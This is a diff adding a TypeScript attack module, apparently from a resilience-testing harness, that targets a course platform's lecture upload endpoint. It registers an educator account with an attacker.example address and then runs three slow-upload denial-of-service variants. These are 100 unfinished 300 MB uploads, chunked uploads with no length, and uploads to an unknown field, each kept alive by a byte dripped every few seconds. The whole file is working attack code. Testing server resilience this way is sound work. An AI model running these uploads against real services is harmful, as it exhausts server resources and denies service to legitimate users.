@@ -1,0 +1,95 @@
+import { type ClientRequest, request } from 'node:http'
+import { type Attack, countResponse, keepBusy, pause, type Target } from '../lib/attack.ts'
+import { call, formHead, formType, json, signUp } from '../lib/call.ts'
+
+type Sent = { field: string; announced: number | null; sendBytes: number; dripMs: number }
+
+/** First box of an MP4 file: enough for a server that looks at the first bytes. */
+const film = Buffer.concat([
+  Buffer.from([0, 0, 0, 24]),
+  Buffer.from('ftypisom\0\0\x02\0isomiso2'),
+  Buffer.alloc(8000, 7),
+])
+const piece = Buffer.alloc(256 * 1024, 7)
+
+/** Makes an educator of the attacker's own, with a course and a lecture. Returns the address of the lecture's upload, and the cookie. */
+async function ownLecture(target: Target, name: string): Promise<{ path: string; cookie: string }> {
+  const cookie = await signUp(target.origin, target.from, `${name}@attacker.example`, 'educator')
+  const post = async (path: string, value: object) => {
+    const answer = await call(target.origin, target.from, json(path, value, cookie))
+    if (answer.status !== 201) throw new Error(`${path} was answered ${answer.status}: ${answer.body}`)
+    return JSON.parse(answer.body.toString())
+  }
+  const course: { _id: string } = await post('/api/course/create', { title: 'Mine', category: 'Web Development' })
+  const { lecture }: { lecture: { _id: string } } = await post(`/api/course/createlecture/${course._id}`, {
+    lectureTitle: 'One',
+  })
+  return { path: `/api/course/editlecture/${lecture._id}`, cookie }
+}
+
+/** Begins an upload that never ends: `sendBytes` as fast as they are taken, then a byte now and then. Resolves when the connection ends. */
+function begin(target: Target, to: { path: string; cookie: string }, signal: AbortSignal, how: Sent): Promise<void> {
+  return new Promise((resolve) => {
+    const sent: ClientRequest = request(target.origin + to.path, {
+      method: 'POST',
+      localAddress: target.from,
+      agent: false,
+      headers: {
+        'content-type': formType,
+        cookie: to.cookie,
+        origin: target.origin,
+        ...(how.announced === null ? {} : { 'content-length': String(how.announced) }),
+      },
+    })
+    target.count('opened')
+    sent.on('response', countResponse(target))
+    sent.on('error', () => undefined)
+    let left = how.sendBytes
+    const fill = () => {
+      while (left > 0 && !sent.destroyed) {
+        left -= piece.length
+        target.count('MB sent', piece.length / 1e6)
+        if (!sent.write(piece)) return
+      }
+    }
+    sent.on('drain', fill)
+    sent.write(Buffer.concat([formHead({ field: how.field, filename: 'lecture.mp4', type: 'video/mp4' }), film]))
+    fill()
+    const drip = setInterval(() => sent.write('x'), how.dripMs)
+    const stop = () => sent.destroy()
+    signal.addEventListener('abort', stop, { once: true })
+    sent.on('close', () => {
+      clearInterval(drip)
+      signal.removeEventListener('abort', stop)
+      void pause(100, signal).then(resolve)
+    })
+  })
+}
+
+const uploads = (name: string, what: string, lanes: number, how: Sent): Attack => ({
+  name,
+  what,
+  async arm(target) {
+    const lecture = await ownLecture(target, name)
+    return (signal) => keepBusy(lanes, signal, () => begin(target, lecture, signal, how))
+  },
+})
+
+export const unfinishedUploads = uploads(
+  'unfinished-uploads',
+  '100 videos of 300 MB to one lecture, each stopped after 0.5 MB',
+  100,
+  { field: 'videoUrl', announced: 300_000_000, sendBytes: 500_000, dripMs: 3000 },
+)
+export const chunkedUploads = uploads('chunked-uploads', '8 videos without a length, each stopped after 50 MB', 8, {
+  field: 'videoUrl',
+  announced: null,
+  sendBytes: 50_000_000,
+  dripMs: 3000,
+})
+export const unknownField = uploads(
+  'unknown-field',
+  '8 files of 400 MB in a field that no form has, each stopped after 50 MB',
+  8,
+  { field: 'somethingElse', announced: 400_000_000, sendBytes: 50_000_000, dripMs: 3000 },
+)
